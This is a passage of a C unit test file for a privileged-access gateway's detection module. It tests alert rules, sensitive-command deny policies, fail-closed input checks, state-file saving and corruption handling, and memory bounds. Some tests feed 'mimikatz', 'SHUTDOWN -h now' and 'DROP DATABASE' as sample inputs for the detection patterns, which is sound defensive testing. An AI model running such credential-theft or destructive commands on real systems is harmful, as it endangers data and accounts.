		assert_null(strchr(res.hits[0].evidence, '\n'));
	}
	/* the same pattern again in the same session: one alert */
	assert_int_equal(text(d, GW_DETECT_INPUT, "n3", "mimikatz", 8, &res), GW_DETECT_NONE);
	assert_int_equal(res.suppressed, 1);
	gw_detect_free(d);
	mg_clock_reset();
}

static void
test_sensitive_policy(void **state)
{
	struct gw_detect *d = detector("sensitive_commands = { patterns = [\"^shutdown\", "
	    "\"drop +database\"]; action = \"deny\"; };");
	struct gw_detect_result res;
	struct pol_alerts a;
	char *bad[] = { "(" };
	char err[256];

	(void)state;
	mg_clock_set(T0);
	/* the policy's list replaces the defaults */
	assert_int_equal(text(d, GW_DETECT_COMMAND, "s1", "mimikatz", 8, &res), GW_DETECT_NONE);
	assert_int_equal(text(d, GW_DETECT_COMMAND, "s1", "SHUTDOWN -h now", 15, &res),
	    GW_DETECT_DENY);
	assert_non_null(strstr(res.hits[0].evidence, "policy pattern 1 in command"));
	assert_int_equal(text(d, GW_DETECT_INPUT, "s1", "DROP  DATABASE x;", 17, &res),
	    GW_DETECT_DENY);
	/* a bad pattern is refused and nothing changes */
	memset(&a, 0, sizeof(a));
	a.patterns = bad;
	a.npatterns = 1;
	assert_int_equal(gw_detect_set_policy(d, &a, err, sizeof(err)), MG_ERR_POLICY);
	assert_non_null(strstr(err, "bad pattern"));
	assert_int_equal(text(d, GW_DETECT_COMMAND, "s2", "shutdown", 8, &res), GW_DETECT_DENY);
	gw_detect_free(d);
	mg_clock_reset();
}

/* ---- errors fail closed ---- */

static void
test_bad_input(void **state)
{
	static const struct gw_detect_event bad[] = {
		{ .kind = GW_DETECT_ATTEMPT, .engineer = "alice", .tenant = "acme",
		    .target = "web01", .source = "not-an-address", .allowed = 1 },
		{ .kind = GW_DETECT_ATTEMPT, .engineer = "al ice", .tenant = "acme",
		    .target = "web01", .source = "192.0.2.1", .allowed = 1 },
		{ .kind = GW_DETECT_ATTEMPT, .engineer = "alice", .tenant = NULL,
		    .target = "web01", .source = "192.0.2.1", .allowed = 1 },
		{ .kind = GW_DETECT_START, .engineer = "alice", .tenant = "acme",
		    .target = "web01", .source = "192.0.2.1", .session = "a b" },
		{ .kind = GW_DETECT_COMMAND, .engineer = "alice", .session = "s", .text = NULL,
		    .text_len = 3 },
		{ .kind = (enum gw_detect_kind)99, .engineer = "alice" },
	};
	struct gw_detect *d = detector(NULL);
	struct gw_detect_result res;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		assert_int_equal(gw_detect_event(d, &bad[i], &res), MG_ERR_INVAL);
		assert_int_equal(res.action, GW_DETECT_DENY);
	}
	gw_detect_free(d);
}

/* ---- restart ---- */

static char tmpdir[64];

static char *
tmp_path(const char *name)
{
	static char p[128];

	snprintf(p, sizeof(p), "%s/%s", tmpdir, name);
	return p;
}

static void
test_restart(void **state)
{
	const char *alerts = "fanout = { tenants = 3; within = \"30m\"; action = \"deny\"; }; "
	    "first_access = { action = \"off\"; }; mfa_failures = { failures = 3; };";
	struct gw_detect *d = detector(alerts);
	struct gw_detect_result res;
	struct gw_detect_stats st;
	char err[256], path[128];
	char *buf1 = NULL, *buf2 = NULL;
	size_t len1 = 0, len2 = 0;
	FILE *f;

	(void)state;
	snprintf(path, sizeof(path), "%s", tmp_path("state"));
	mg_clock_set(T0);
	start(d, "alice", "acme", "web01", "192.0.2.10", "s1");
	mg_clock_set(T0 + 5 * MIN);
	start(d, "alice", "globex", "web01", "192.0.2.10", "s2");
	mfa_fail(d, "bob", "192.0.2.20", &res);
	mfa_fail(d, "bob", "192.0.2.20", &res);
	assert_true(gw_detect_dirty(d));
	assert_int_equal(gw_detect_save(d, path, err, sizeof(err)), 0);
	assert_false(gw_detect_dirty(d));
	gw_detect_free(d);

	/* the daemon restarts */
	d = detector(alerts);
	assert_int_equal(gw_detect_load(d, path, NULL, &res, err, sizeof(err)), 0);
	assert_int_equal(res.nhits, 0);
	gw_detect_stats(d, &st);
	assert_int_equal(st.engineers, 2);
	assert_int_equal(st.live, 2);
	mg_clock_set(T0 + 10 * MIN);
	assert_int_equal(attempt(d, "alice", "initech", "web01", "192.0.2.10", &res),
	    GW_DETECT_DENY);
	assert_int_equal(mfa_fail(d, "bob", "192.0.2.20", &res), GW_DETECT_ALERT);
	/* saving what was loaded gives the same file, byte for byte */
	assert_int_equal(gw_detect_save(d, path, err, sizeof(err)), 0);
	gw_detect_free(d);
	d = detector(alerts);
	assert_int_equal(gw_detect_load(d, path, NULL, &res, err, sizeof(err)), 0);
	assert_non_null(f = fopen(path, "r"));
	assert_true(getdelim(&buf1, &len1, '\0', f) > 0);
	fclose(f);
	assert_int_equal(gw_detect_save(d, path, err, sizeof(err)), 0);
	assert_non_null(f = fopen(path, "r"));
	assert_true(getdelim(&buf2, &len2, '\0', f) > 0);
	fclose(f);
	assert_string_equal(buf1, buf2);
	free(buf1);
	free(buf2);
	/* the window still slides after the restart */
	mg_clock_set(T0 + 35 * MIN);
	assert_int_equal(attempt(d, "alice", "initech", "web01", "192.0.2.10", &res),
	    GW_DETECT_NONE);
	gw_detect_free(d);

	/* no file: a first start, quiet */
	d = detector(alerts);
	assert_int_equal(gw_detect_load(d, tmp_path("none"), NULL, &res, err, sizeof(err)), 0);
	assert_int_equal(res.nhits, 0);
	/* a file others may write: refused, empty, and said loudly */
	assert_int_equal(chmod(path, 0666), 0);
	assert_int_not_equal(gw_detect_load(d, path, NULL, &res, err, sizeof(err)), 0);
	assert_int_equal(res.nhits, 1);
	assert_int_equal(res.hits[0].rule, GW_DETECT_STATE);
	gw_detect_stats(d, &st);
	assert_int_equal(st.engineers, 0);
	unlink(path);
	gw_detect_free(d);
	mg_clock_reset();
}

/* ---- damaged state files ---- */

static void
test_state_damaged(void **state)
{
	static const char good[] =
	    "mspgate-detect 1\n"
	    "e alice 1000 2000 3\n"
	    "a alice acme web01 2000\n"
	    "n alice 192.0.2.0/24 2000\n"
	    "l alice s1 192.0.2.10 2000 5 0\n"
	    "o alice 100 200 2\n"
	    "f alice 0 2000 00000000000000ff\n"
	    "s 203.0.113.9\n"
	    "M 203.0.113.9 100 200 4\n"
	    "E 203.0.113.9 0123456789abcdef 200\n"
	    "end 9\n";
	static const struct {
		const char *text;
		const char *msg;
	} bad[] = {
		{ "", "empty" },
		{ "mspgate-detect 2\nend 0\n", "unknown version" },
		{ "lockout 1\nend 0\n", "not a detector state file" },
		{ "mspgate-detect 1\n", "no end line" },
		{ "mspgate-detect 1\ne alice 1 2 3\nend 1", "no newline" },
		{ "mspgate-detect 1\ne alice 1 2 3\nend 2\n", "record count" },
		{ "mspgate-detect 1\nend 0\ne alice 1 2 3\n", "after the end" },
		{ "mspgate-detect 1\na alice acme web01 5\nend 1\n", "not declared" },
		{ "mspgate-detect 1\ne alice 1 2 3\ne alice 1 2 3\nend 2\n", "twice" },
		{ "mspgate-detect 1\ne al/ice 1 2 3\nend 1\n", "malformed" },
		{ "mspgate-detect 1\ne alice 1 2\nend 1\n", "malformed" },
		{ "mspgate-detect 1\ne alice 1 2 3 \nend 1\n", "malformed" },
		{ "mspgate-detect 1\ne alice 1  2 3\nend 1\n", "malformed" },
		{ "mspgate-detect 1\ne alice -1 2 3\nend 1\n", "malformed" },
		{ "mspgate-detect 1\ne alice 01 2 3\nend 1\n", "malformed" },
		{ "mspgate-detect 1\ne alice 1 99999999999999999999 3\nend 1\n", "malformed" },
		{ "mspgate-detect 1\ne alice 1 253402300800 3\nend 1\n", "malformed" },
		{ "mspgate-detect 1\ne alice 1 2 3\nn alice 192.0.2.1/24 5\nend 2\n", "malformed" },
		{ "mspgate-detect 1\ne alice 1 2 3\nn alice 192.0.2.0/16 5\nend 2\n", "malformed" },
		{ "mspgate-detect 1\ne alice 1 2 3\nl alice s1 ::ffff:192.0.2.1 1 1 0\nend 2\n",
		    "malformed" },
		{ "mspgate-detect 1\ne alice 1 2 3\no alice 5 4 1\nend 2\n", "malformed" },
		{ "mspgate-detect 1\ne alice 1 2 3\no alice 4 5 0\nend 2\n", "malformed" },
		{ "mspgate-detect 1\ne alice 1 2 3\nf alice 9 5 0000000000000001\nend 2\n",
		    "malformed" },
		{ "mspgate-detect 1\ne alice 1 2 3\nf alice 1 5 00000000000001\nend 2\n",
		    "malformed" },
		{ "mspgate-detect 1\ne alice 1 2 3\nx alice\nend 2\n", "unknown record" },
		{ "mspgate-detect 1\ne alice 1 2 3\nh alice 1 2 3\nend 2\n", "malformed" },
		{ "mspgate-detect 1\ns 203.000.113.9\nend 1\n", "malformed" },
	};
	struct gw_detect *d = detector(NULL);
	struct gw_detect_result res;
	struct gw_detect_stats st;
	char err[256];
	size_t i;

	(void)state;
	assert_int_equal(gw_detect_load_buffer(d, good, strlen(good), "st", &res, err,
	    sizeof(err)), 0);
	gw_detect_stats(d, &st);
	assert_int_equal(st.engineers, 1);
	assert_int_equal(st.access, 1);
	assert_int_equal(st.live, 1);
	assert_int_equal(st.sources, 1);
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		int r;

		/* history loaded first, so "empty afterwards" means something */
		assert_int_equal(gw_detect_load_buffer(d, good, strlen(good), "st", &res, err,
		    sizeof(err)), 0);
		r = gw_detect_load_buffer(d, bad[i].text, strlen(bad[i].text), "st", &res, err,
		    sizeof(err));
		if (r != MG_ERR_PARSE || strstr(err, bad[i].msg) == NULL)
			fail_msg("case %zu: r=%d err=\"%s\"", i, r, err);
		assert_int_equal(strncmp(err, "st:", 3), 0);
		assert_int_equal(res.action, GW_DETECT_ALERT);
		assert_int_equal(res.nhits, 1);
		assert_int_equal(res.hits[0].rule, GW_DETECT_STATE);
		assert_int_equal(res.hits[0].severity, LOG_ALERT);
		assert_non_null(strstr(res.hits[0].evidence, "history starts empty"));
		gw_detect_stats(d, &st);
		assert_int_equal(st.engineers + st.sources + st.access + st.live, 0);
		assert_true(gw_detect_dirty(d));
	}
	/* a truncated good file, at every length, is refused */
	for (i = 0; i < strlen(good); i++)
		assert_int_equal(gw_detect_load_buffer(d, good, i, "st", &res, err, sizeof(err)),
		    MG_ERR_PARSE);
	gw_detect_free(d);
}

/* ---- bounded memory ---- */

static uint64_t rng = 88172645463325252ULL;

static uint64_t
xorshift(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return rng;
}

static void
test_flood(void **state)
{
	struct gw_detect *d = detector(NULL);
	struct gw_detect_result res;
	struct gw_detect_stats st;
	char name[32], tenant[32], src[32], sid[32], err[256];
	long i;

	(void)state;
	mg_clock_set(T0);
	/* alice has history worth keeping */
	start(d, "alice", "acme", "web01", "192.0.2.10", "keep");
	for (i = 0; i < 1000000; i++) {
		uint64_t r = xorshift();
		struct gw_detect_event ev = { 0 };

		if (i % 1000 == 0)
			mg_clock_set(T0 + i / 1000);
		snprintf(name, sizeof(name), "e%" PRIu64, r % 1000003);
		snprintf(src, sizeof(src), "10.%u.%u.%u", (unsigned)(r >> 20) & 255,
		    (unsigned)(r >> 28) & 255, (unsigned)(r >> 36) & 255);
		ev.engineer = name;
		ev.source = src;
		if (i % 4 == 0) {
			snprintf(tenant, sizeof(tenant), "t%" PRIu64, (r >> 40) % 5000);
			snprintf(sid, sizeof(sid), "s%ld", i);
			ev.kind = GW_DETECT_START;
			ev.tenant = tenant;
			ev.target = "web01";
			ev.session = sid;
		} else
			ev.kind = GW_DETECT_MFA_FAILURE;
		assert_int_equal(gw_detect_event(d, &ev, &res), 0);
	}
	gw_detect_stats(d, &st);
	assert_true(st.engineers <= GW_DETECT_MAX_ENGINEERS);
	assert_true(st.sources <= GW_DETECT_MAX_SOURCES);
	assert_true(st.access <= GW_DETECT_ACCESS_TOTAL);
	assert_true(st.live <= (size_t)GW_DETECT_MAX_ENGINEERS * GW_DETECT_LIVE_PER_ENG);
	/* and the state file of a full detector loads back */
	assert_int_equal(gw_detect_save(d, tmp_path("flood"), err, sizeof(err)), 0);
	gw_detect_free(d);
	d = detector(NULL);
	assert_int_equal(gw_detect_load(d, tmp_path("flood"), NULL, &res, err, sizeof(err)), 0);
	gw_detect_stats(d, &st);
	assert_true(st.engineers > 0 && st.engineers <= GW_DETECT_MAX_ENGINEERS);
	unlink(tmp_path("flood"));
	gw_detect_free(d);
	mg_clock_reset();
}

/* ---- what the operator sees ---- */

static void
test_output(void **state)
{
	struct gw_detect_event ev = { .kind = GW_DETECT_ATTEMPT, .engineer = "alice",
	    .tenant = "initech", .target = "db01", .source = "198.51.100.7", .allowed = 1 };
	struct gw_detect_hit h = { GW_DETECT_FANOUT, GW_DETECT_DENY, LOG_ALERT,
	    "3 distinct tenants within 30m (threshold 3): initech, globex, acme" };
	struct rec_audit_event a;
	char line[1024], reason[GW_DETECT_EVIDENCE_MAX + 16];

	(void)state;
	gw_detect_syslog_line(&ev, &h, line, sizeof(line));
	assert_string_equal(line, "alert: rule=fanout action=deny severity=alert "
	    "engineer=alice tenant=initech target=db01 source=198.51.100.7 session=- "
	    "evidence=\"3 distinct tenants within 30m (threshold 3): initech, globex, acme\"");
	gw_detect_audit_event(&ev, &h, reason, sizeof(reason), &a);
	assert_int_equal(a.type, REC_AUDIT_ALERT);
	assert_string_equal(a.rule, "alerts.fanout");
	assert_string_equal(a.result, "deny");
	assert_string_equal(a.engineer, "alice");
	assert_string_equal(a.reason, "alert: 3 distinct tenants within 30m (threshold 3): "
	    "initech, globex, acme");
	/* strings from outside are escaped */
	ev.session = "x\ny\"z";
	gw_detect_syslog_line(&ev, &h, line, sizeof(line));
	assert_non_null(strstr(line, "session=x\\x0ay\\x22z "));
	assert_int_equal(strcmp(gw_detect_rule_name(GW_DETECT_SENSITIVE), "sensitive_commands"),
	    0);
}

static int
setup(void **state)
{
	(void)state;
	T0 = (time_t)(mg_days_from_civil(2026, 11, 23) * 86400 + 9 * 3600);
	snprintf(tmpdir, sizeof(tmpdir), "/tmp/test_gw_detect.XXXXXX");
	if (mkdtemp(tmpdir) == NULL)
		return -1;
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	/* whatever a failed test left behind */
	unlink(tmp_path("state"));
	unlink(tmp_path("flood"));
	rmdir(tmpdir);
	return 0;
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_fanout),
		cmocka_unit_test(test_fanout_alert_once),
		cmocka_unit_test(test_remote),
		cmocka_unit_test(test_first_access),
		cmocka_unit_test(test_off_hours),
		cmocka_unit_test(test_mfa_failures),
		cmocka_unit_test(test_mfa_gates_attempts),
		cmocka_unit_test(test_unusual),
		cmocka_unit_test(test_parallel),
		cmocka_unit_test(test_parallel_peers),
		cmocka_unit_test(test_egress),
		cmocka_unit_test(test_sensitive_defaults),
		cmocka_unit_test(test_sensitive_policy),
		cmocka_unit_test(test_bad_input),
		cmocka_unit_test(test_restart),
		cmocka_unit_test(test_state_damaged),
		cmocka_unit_test(test_flood),
		cmocka_unit_test(test_output),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
